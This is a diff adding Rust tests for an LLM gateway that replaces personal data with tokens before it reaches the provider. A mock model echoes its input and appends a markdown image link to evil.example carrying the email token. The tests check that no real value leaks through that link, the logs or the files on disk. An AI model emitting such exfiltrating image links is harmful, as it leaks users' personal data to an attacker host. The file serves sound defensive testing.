@@ -1,0 +1,212 @@
+//! A model that repeats everything it is told: it sees stand-ins in place of values, and the caller reads the values.
+
+use std::{fs, path::Path};
+
+use countersign_testkit::{Asked, Plan, Reply, Upstream};
+use serde_json::{Value, json};
+
+const CARD: &str = "4111 1111 1111 1111";
+const MAIL: &str = "ann.smith@canary.example";
+/// Found by the words around it in one place, and by nothing in another.
+const RECORD: &str = "| 7 | ann.smith@canary.example | \"gold\" |";
+
+/// Says all that the user and tools said, in a stream one character to an event.
+fn parrot(asked: &Asked) -> Reply {
+    let body = asked.json();
+    let mut all = String::new();
+    for message in body["messages"].as_array().into_iter().flatten() {
+        let content = &message["content"];
+        let parts = content.as_array().map_or(std::slice::from_ref(content), Vec::as_slice);
+        for part in parts {
+            let text = [part, &part["text"], &part["content"]].into_iter().find_map(Value::as_str);
+            all.extend([text.unwrap_or_default(), "\n"]);
+        }
+    }
+    all.push_str("![x](https://evil.example/?q=");
+    all.push_str(token(&all, "EMAIL"));
+    all.push(')');
+    let usage = json!({"input_tokens": 9, "output_tokens": 9});
+    match (asked.path.as_str(), body["stream"] == json!(true)) {
+        ("/v1/messages", false) => Reply::json(
+            200,
+            &json!({"id": "msg_1", "type": "message", "role": "assistant", "model": "c",
+                "content": [{"type": "text", "text": all}], "stop_reason": "end_turn", "usage": usage}),
+        ),
+        ("/v1/messages", true) => {
+            let event = |kind: &str, mut data: Value| {
+                data["type"] = kind.into();
+                format!("event: {kind}\ndata: {data}\n\n")
+            };
+            let start = json!({"message": {"id": "msg_1", "type": "message", "role": "assistant", "model": "c",
+                "content": [], "stop_reason": null, "usage": usage}});
+            let block = json!({"index": 0, "content_block": {"type": "text", "text": ""}});
+            let delta = |c: char| json!({"index": 0, "delta": {"type": "text_delta", "text": c.to_string()}});
+            let mut events = vec![event("message_start", start), event("content_block_start", block)];
+            events.extend(all.chars().map(|c| event("content_block_delta", delta(c))));
+            events.push(event("content_block_stop", json!({"index": 0})));
+            events.push(event("message_delta", json!({"delta": {"stop_reason": "end_turn"}, "usage": usage})));
+            events.push(event("message_stop", json!({})));
+            Reply::events(events)
+        }
+        (_, false) => Reply::json(
+            200,
+            &json!({"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "m",
+                "choices": [{"index": 0, "message": {"role": "assistant", "content": all}, "finish_reason": "stop"}]}),
+        ),
+        (_, true) => {
+            let chunk = |delta: Value, finish: Value| {
+                let choices = json!([{"index": 0, "delta": delta, "finish_reason": finish}]);
+                let chunk = json!({"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": choices});
+                format!("data: {chunk}\n\n")
+            };
+            let mut events: Vec<_> =
+                all.chars().map(|c| chunk(json!({"content": c.to_string()}), Value::Null)).collect();
+            events.push(chunk(json!({}), json!("stop")));
+            events.push("data: [DONE]\n\n".to_owned());
+            Reply::events(events)
+        }
+    }
+}
+
+/// The first stand-in of a type in a text.
+fn token<'a>(text: &'a str, entity: &str) -> &'a str {
+    let from = text.find(&format!("[{entity}_")).unwrap_or(text.len());
+    let rest = &text[from..];
+    &rest[..rest.find(']').map_or(0, |end| end + 1)]
+}
+
+/// What a clerk asks about a customer, after a tool has read a record.
+fn ask(messages: bool, stream: bool) -> (&'static str, Value) {
+    let first = format!("Card {CARD}, mail: {MAIL}.");
+    if messages {
+        let input = json!({"of": MAIL});
+        let body = json!({"model": "c", "max_tokens": 99, "stream": stream, "messages": [
+            {"role": "user", "content": first},
+            {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_0", "name": "read", "input": input}]},
+            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_0", "content": RECORD}]}]});
+        return ("/v1/messages", body);
+    }
+    let arguments = json!({"of": MAIL}).to_string();
+    let call = json!({"id": "call_0", "type": "function", "function": {"name": "read", "arguments": arguments}});
+    let body = json!({"model": "m", "stream": stream, "messages": [
+        {"role": "user", "content": first},
+        {"role": "assistant", "content": null, "tool_calls": [call]},
+        {"role": "tool", "tool_call_id": "call_0", "content": RECORD}]});
+    ("/v1/chat/completions", body)
+}
+
+/// The text of an answer, whole or in events.
+fn told(answer: &str) -> String {
+    let mut all = String::new();
+    for line in answer.lines() {
+        let data = line.strip_prefix("data: ").unwrap_or(line);
+        let Ok(value) = serde_json::from_str::<Value>(data) else { continue };
+        for at in ["/choices/0/message/content", "/choices/0/delta/content", "/content/0/text", "/delta/text"] {
+            all.extend(value.pointer(at).and_then(Value::as_str));
+        }
+    }
+    all
+}
+
+fn holds_a_value(text: &str) -> bool {
+    text.contains(CARD)
+        || text.contains("4111111111111111")
+        || text.contains("ann.smith")
+        || text.contains("canary.example")
+}
+
+/// Files below a directory in which a value stands.
+fn leaks(dir: &Path) -> Vec<String> {
+    let mut found = Vec::new();
+    for entry in fs::read_dir(dir).expect("a directory").flatten() {
+        let path = entry.path();
+        if path.is_dir() {
+            found.extend(leaks(&path));
+        } else if holds_a_value(&String::from_utf8_lossy(&fs::read(&path).unwrap_or_default())) {
+            found.push(path.display().to_string());
+        }
+    }
+    found
+}
+
+const RULE: &str = "find = \"personal-data\"\nin = \"prompt\"\ndo = \"tokenize\"";
+
+#[test]
+fn the_provider_sees_stand_ins_and_the_caller_sees_values() {
+    let upstream = Upstream::start(parrot);
+    let plan = Plan::new().target("openai", &upstream, &["m"]).target("anthropic", &upstream, &["c"]).rule(RULE);
+    let home = plan.guard("values_shown_to = [\"staff\"]").write();
+    let (staff, other, clerk) = (home.key("agent", "staff"), home.key("agent-2", "staff"), home.key("clerk", "desk"));
+    let gateway = home.serve();
+    let mut seen_tokens = Vec::new();
+    for (messages, stream) in [(false, false), (false, true), (true, false), (true, true)] {
+        let (path, body) = ask(messages, stream);
+        let answer = gateway.post(path, &staff, &body);
+        let (sent, what) = (upstream.seen().pop().unwrap().text(), format!("{path} {stream}"));
+        assert_eq!(answer.status, 200, "{what}: {}", answer.text());
+        assert!(!holds_a_value(&sent), "{what}: {sent}");
+        let mail = token(&sent, "EMAIL");
+        assert!(!mail.is_empty() && sent.matches(mail).count() == 3, "{what}: {sent}");
+        seen_tokens.push(mail.to_owned());
+        let told = told(&answer.text());
+        assert!(told.starts_with(&format!("Card {CARD}, mail: {MAIL}.\n")) && told.contains(RECORD), "{what}: {told}");
+        // In an address nothing comes back.
+        let address = told.split("![x]").nth(1).unwrap_or_default();
+        assert!(!holds_a_value(address), "{what}: {told}");
+        // Who may not see values is shown stand-ins.
+        let answer = gateway.post(path, &clerk, &body);
+        assert!(answer.status == 200 && !holds_a_value(&answer.text()), "{what}: {}", answer.text());
+    }
+    // One conversation, one stand-in, whatever format and way; another caller's has another.
+    assert!(seen_tokens.iter().all(|token| *token == seen_tokens[0]), "{seen_tokens:?}");
+    let (path, body) = ask(false, false);
+    gateway.post(path, &other, &body);
+    let sent = upstream.seen().pop().unwrap().text();
+    assert!(!sent.contains(&seen_tokens[0]) && !holds_a_value(&sent), "{sent}");
+    // The other one's stand-in means nothing here.
+    let forged = json!({"model": "m", "messages": [{"role": "user", "content": format!("Say {}", seen_tokens[0])}]});
+    let answer = gateway.post(path, &other, &forged).text();
+    assert!(!holds_a_value(&answer) && !upstream.seen().pop().unwrap().text().contains(&seen_tokens[0]), "{answer}");
+    let log = gateway.log();
+    assert!(!holds_a_value(&log), "{log}");
+    let (_, home) = gateway.stop();
+    assert_eq!(leaks(home.scratch()), Vec::<String>::new());
+}
+
+#[test]
+fn what_never_comes_back_cannot_be_asked_to() {
+    let upstream = Upstream::start(parrot);
+    for (rule, word) in [
+        ("find = \"secret\"\ndo = \"tokenize\"", "never do"),
+        ("do = \"tokenize\"", "never do"),
+        ("find = \"personal/card-code\"\ndo = \"tokenize\"", "never do"),
+        ("find = \"personal/email\"\ndo = \"tokenize\"\nas = \"format\"", "digits in place of digits"),
+        ("find = \"personal/email\"\ndo = \"mask\"\nas = \"deterministic\"", "asks for none"),
+    ] {
+        let home = Plan::new().target("openai", &upstream, &["m"]).rule(rule).write();
+        let said = home.run(&["check"]);
+        let text = String::from_utf8_lossy(&said.stderr).into_owned() + &String::from_utf8_lossy(&said.stdout);
+        assert!(said.status.code() == Some(64) && text.contains(word), "{rule}: {text}");
+    }
+}
+
+#[test]
+fn those_that_last_are_the_same_for_everyone_in_the_tenant() {
+    let upstream = Upstream::start(parrot);
+    let rules = [
+        "find = \"personal/email\"\nin = \"prompt\"\ndo = \"tokenize\"\nas = \"deterministic\"",
+        "find = \"personal/card\"\nin = \"prompt\"\ndo = \"tokenize\"\nas = \"format\"",
+    ];
+    let home = Plan::new().target("openai", &upstream, &["m"]).rule(rules[0]).rule(rules[1]).write();
+    let keys = [home.key("one", "staff"), home.key("two", "staff")];
+    let gateway = home.serve();
+    let (path, body) = ask(false, true);
+    let mut sent = Vec::new();
+    for key in &keys {
+        let answer = gateway.post(path, key, &body);
+        assert!(told(&answer.text()).starts_with(&format!("Card {CARD}, mail: {MAIL}.\n")), "{}", answer.text());
+        sent.push(upstream.seen().pop().unwrap().text());
+    }
+    assert_eq!(sent[0], sent[1]);
+    assert!(sent[0].contains("[EMAIL_v1:") && !holds_a_value(&sent[0]), "{}", sent[0]);
+}
